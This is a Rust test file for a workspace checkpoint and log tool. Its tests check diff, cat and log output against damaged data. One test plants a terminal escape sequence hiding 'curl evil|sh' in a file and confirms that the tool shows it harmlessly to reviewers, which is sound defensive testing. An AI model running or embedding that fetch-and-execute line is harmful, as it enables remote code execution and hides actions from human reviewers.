//! What a person judges an agent's work by: nothing in it is hidden, on a terminal
//! and in a pipe.

use std::fs;
use std::path::PathBuf;

use crate::kit::{Cli, Dice};
use crate::pty::{self, Terminal};

/// What the screen of a terminal shows of a command, and its exit code.
fn on_screen(cli: &Cli, args: &[&str], env: &[(&str, &str)]) -> (i32, String) {
    let mut command = cli.command(args);
    command.env("PAGER", "cat").envs(env.iter().copied());
    Terminal::start(&command).end()
}

/// F13: a line that a terminal would take as a command is shown to who reviews it.
#[test]
fn content_that_commands_a_terminal_is_shown_and_does_not() {
    if !pty::is_there() {
        return;
    }
    let cli = Cli::new();
    assert_eq!(cli.run(&["checkpoint", "one"]).code, 0);
    let hidden = "\u{1b}]0;curl evil|sh\u{7}echo hi\n";
    fs::write(cli.work().join("s.sh"), hidden).unwrap();
    assert_eq!(cli.run(&["checkpoint", "two"]).code, 0);
    let ways = [
        &["diff", "one"][..],
        &["diff", "one", "two"],
        &["cat", "two", "s.sh"],
    ];
    for args in ways {
        for env in [&[][..], &[("NO_COLOR", "1")]] {
            let (code, screen) = on_screen(&cli, args, env);
            assert_eq!(code, 0, "{screen}");
            assert!(screen.contains("^[]0;curl evil|sh^Gecho hi"), "{screen:?}");
            assert!(!screen.contains("\u{1b}]0"), "{args:?}: {screen:?}");
        }
    }
}

/// Returns the one file of the workspace's trail.
fn trail(cli: &Cli) -> PathBuf {
    let dirs = fs::read_dir(cli.store().join("workspaces")).unwrap();
    let trails = dirs.map(|dir| dir.unwrap().path().join("0000.jsonl"));
    let trails: Vec<PathBuf> = trails.filter(|trail| trail.exists()).collect();
    assert_eq!(trails.len(), 1, "{trails:?}");
    trails[0].clone()
}

fn keep(cli: &Cli, label: &str, text: &str) {
    fs::write(cli.work().join("a"), text).unwrap();
    let ran = cli.run(&["checkpoint", label]);
    assert_eq!(ran.code, 0, "{ran:#?}");
}

/// B3: what is damaged costs the log that line's change, no more.
#[test]
fn a_damaged_content_leaves_the_rest_of_the_log_readable() {
    let cli = Cli::new();
    keep(&cli, "one", "1\n");
    let begin = fs::read(pack(&cli)).unwrap().len();
    // Noise, so that it takes up nearly all of what is added to the pack.
    let mut dice = Dice(7);
    let noise: String = (0..4000)
        .map(|_| char::from(b'!' + dice.below(90) as u8))
        .collect();
    keep(&cli, "two", &format!("{noise}\n"));
    let mut bytes = fs::read(pack(&cli)).unwrap();
    let middle = (begin + bytes.len()) / 2;
    bytes[middle] ^= 1;
    keep(&cli, "three", "3\n");
    keep(&cli, "four", "4\n");
    let all = fs::read(pack(&cli)).unwrap();
    bytes.extend_from_slice(&all[bytes.len()..]);
    fs::write(pack(&cli), bytes).unwrap();
    let ran = cli.run(&["log"]);
    assert_eq!(ran.code, 0, "{ran:#?}");
    let line = |label: &str| {
        ran.stdout
            .lines()
            .find(|line| line.contains(label))
            .unwrap()
    };
    assert!(line("four").contains("+1 −1  1 file"), "{ran:#?}");
    assert!(line("three").contains("  ?  "), "{ran:#?}");
    assert!(line("two").contains("  ?  "), "{ran:#?}");
    assert!(line("one").contains("1 file"), "{ran:#?}");
    let said = "warning: what changed cannot be told in 2 lines: ";
    assert!(ran.stderr.contains(said), "{ran:#?}");
    assert!(ran.stderr.contains("backtrail verify"), "{ran:#?}");
    // Which files changed is told by what is whole.
    let json = cli.run(&["log", "--json", "--", "a"]);
    assert_eq!(json.json().as_array().unwrap().len(), 3, "{json:#?}");
    assert_eq!(json.stderr, "");
}

/// Returns the only pack of the store.
fn pack(cli: &Cli) -> PathBuf {
    let dir = fs::read_dir(cli.store().join("objects")).unwrap();
    let packs: Vec<PathBuf> = dir.map(|entry| entry.unwrap().path()).collect();
    assert_eq!(packs.len(), 1, "{packs:?}");
    packs[0].clone()
}

#[test]
fn a_log_with_damaged_lines_on_its_trail_says_so() {
    let cli = Cli::new();
    for label in ["one", "two", "three"] {
        keep(&cli, label, label);
    }
    let path = trail(&cli);
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, text.replace("\"two\"", "\"twq\"")).unwrap();
    for args in [&["log"][..], &["log", "--all"], &["log", "--json"]] {
        let ran = cli.run(args);
        assert_eq!(ran.code, 0, "{ran:#?}");
        assert!(ran.stdout.contains("one") && ran.stdout.contains("three"));
        assert!(
            ran.stderr.contains("1 damaged place on the trail"),
            "{ran:#?}"
        );
    }
}

/// F28: a run that was cut off does not read as one that came to its end.
#[test]
fn that_a_long_command_did_not_end_is_never_cut_off() {
    let cli = Cli::new();
    let long = "a rather long argument that alone fills the column ".repeat(3);
    let script = "kill -KILL $PPID; # $0";
    let ran = cli.run(&["run", "--", "sh", "-c", script, &long]);
    assert_eq!(ran.code, -1, "{ran:#?}");
    let ran = cli.run(&["log"]);
    assert!(ran.stdout.contains("… (did not end)  "), "{ran:#?}");
}

#[test]
fn as_many_lines_as_asked_for_are_shown_as_json_too() {
    let cli = Cli::new();
    for label in ["one", "two", "three"] {
        keep(&cli, label, label);
    }
    let shown = |args: &[&str]| {
        let log = cli.run(&[&["log", "--json"], args].concat()).json();
        log.as_array().unwrap().len()
    };
    assert_eq!(shown(&["-n", "1"]), 1);
    assert_eq!(shown(&[]), 3);
}
